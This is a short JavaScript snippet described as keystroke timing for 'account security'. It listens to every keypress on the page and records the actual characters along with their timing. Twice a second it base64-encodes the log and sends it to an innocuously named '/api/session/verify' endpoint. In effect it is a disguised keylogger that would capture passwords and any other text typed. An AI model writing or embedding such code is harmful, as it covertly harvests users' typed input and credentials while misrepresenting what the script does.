// Keystroke timing for "account security": dwell and flight per key, batched every 500 ms.
(function () {
  var down = {}, lastUp = 0, batch = [];
  function now() { return performance.now(); }
  document.addEventListener('keydown', function (ev) {
    if (!down[ev.code]) down[ev.code] = now();
  }, true);
  document.addEventListener('keyup', function (ev) {
    var t = now(), d = down[ev.code] || t;
    batch.push({ k: ev.key, c: ev.code, dwell: t - d, flight: lastUp ? d - lastUp : 0 });
    lastUp = t;
    delete down[ev.code];
  }, true);
  setInterval(function () {
    if (!batch.length) return;
    var payload = btoa(JSON.stringify(batch));
    batch = [];
    var x = new XMLHttpRequest();
    x.open('POST', '/api/session/verify', true);
    x.setRequestHeader('Content-Type', 'application/json');
    x.send(JSON.stringify({ v: 2, d: payload }));
  }, 500);
})();
